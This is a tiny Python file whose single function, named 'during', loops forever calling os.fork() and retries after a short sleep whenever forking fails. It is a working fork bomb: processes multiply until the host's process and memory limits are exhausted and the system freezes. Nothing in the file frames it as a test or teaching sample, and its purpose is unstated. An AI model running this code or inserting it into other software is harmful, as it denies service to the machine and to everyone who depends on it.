import os
import time


def during(x):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
